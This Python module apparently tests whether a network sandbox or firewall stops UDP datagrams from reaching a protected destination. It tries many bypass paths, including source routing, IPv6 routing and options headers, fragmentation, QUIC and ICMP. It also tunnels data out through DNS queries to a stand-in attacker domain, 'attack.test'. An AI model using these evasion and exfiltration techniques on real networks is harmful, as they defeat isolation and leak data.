"""Datagrams to a protected destination."""

import socket
import struct

from way import answer, datagram, each, way


@way()
def connected(world):
    with datagram() as sock:
        sock.connect(world.target)
        sock.send(world.message)
        return answer(sock)


@way()
def unconnected(world):
    with datagram() as sock:
        sock.sendto(world.message, world.target)
        return answer(sock)


@way()
def unconnected6(world):
    with datagram(socket.AF_INET6) as sock:
        sock.sendto(world.message, world.target6)
        return answer(sock)


@way()
def v4_mapped(world):
    with datagram(socket.AF_INET6) as sock:
        sock.sendto(world.message, ("::ffff:" + world.remote4, world.port))
        return answer(sock)


@way()
def quic(world):
    """An Initial packet is what counts: the padding of RFC 9000 with the nonce in it."""
    with datagram() as sock:
        initial = b"\xc3\x00\x00\x00\x01\x08" + bytes(8) + b"\x00\x00"
        sock.sendto((initial + world.message).ljust(1200, b"\0"), (world.remote4, 443))
        return answer(sock)


@way()
def connected_elsewhere(world):
    """A connected socket may name another destination for one datagram."""
    with datagram() as sock:
        sock.connect((world.remote4, world.free_port))
        sock.sendto(world.message, world.target)
        return answer(sock)


@way()
def fragmented(world):
    with datagram() as sock:
        sock.sendto(world.message.ljust(8000, b"."), world.target)
        return answer(sock)


@way()
def udp_lite(world):
    with datagram(protocol=136) as sock:
        sock.sendto(world.message, world.target)
        return answer(sock)


def udp_socket(world):
    return datagram()


@way(before=udp_socket)
def made_before_move(world, sock):
    """Its cgroup is the one that it was made in."""
    sock.sendto(world.message, world.target)
    return answer(sock)


def connected_socket(world):
    sock = datagram()
    sock.connect(world.target)
    return sock


@way(before=connected_socket)
def connected_before_move(world, sock):
    sock.send(world.message)
    return answer(sock)


@way()
def source_route(world):
    """To an address that is free, with the option to send it on from there (RFC 791, loose source and record route)."""
    with datagram() as sock:
        route = struct.pack("!BBBB4s4s", 1, 131, 11, 4, socket.inet_aton(world.other4), socket.inet_aton(world.remote4))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
        sock.sendto(world.message, (world.remote4, world.port))
        return answer(sock)


@way()
def routing_header(world):
    """To an address that is free, with an IPv6 segment routing header that names the protected one."""
    with datagram(socket.AF_INET6) as sock:
        segments = [socket.inet_pton(socket.AF_INET6, ip) for ip in (world.remote6, world.other6)]
        header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + b"".join(segments)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        sock.sendto(world.message, world.target6)
        return answer(sock)


@way()
def destination_options(world):
    """The transport's header stands behind one that is easily overlooked."""
    with datagram(socket.AF_INET6) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, struct.pack("!BBBB4x", 0, 0, 1, 4))
        sock.sendto(world.message, world.target6)
        return answer(sock)


@way()
def ping(world):
    """What an echo request carries reaches the host's kernel, not the service."""
    def echo(family, protocol, kind, address):
        with datagram(family, protocol) as sock:
            sock.sendto(struct.pack("!BBHHH", kind, 0, 0, 0, 1) + world.message, (address, 0))
            return f"answered {sock.recv(4096)!r}"

    return each(
        [
            ("v4", lambda: echo(socket.AF_INET, socket.IPPROTO_ICMP, 8, world.remote4)),
            ("v6", lambda: echo(socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, world.remote6)),
        ]
    )


@way()
def dns_tunnel(world):
    """A question whose name is the message, to a name server of the attacker's own."""
    label = world.nonce.encode()
    question = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x06attack\x04test\x00"
    with datagram() as sock:
        sock.sendto(question + struct.pack("!HH", 16, 1), (world.other4, 53))
        return answer(sock)


@way()
def dns_tunnel_tcp(world):
    from way import connect_and_ask

    return connect_and_ask(world, (world.other4, 53))
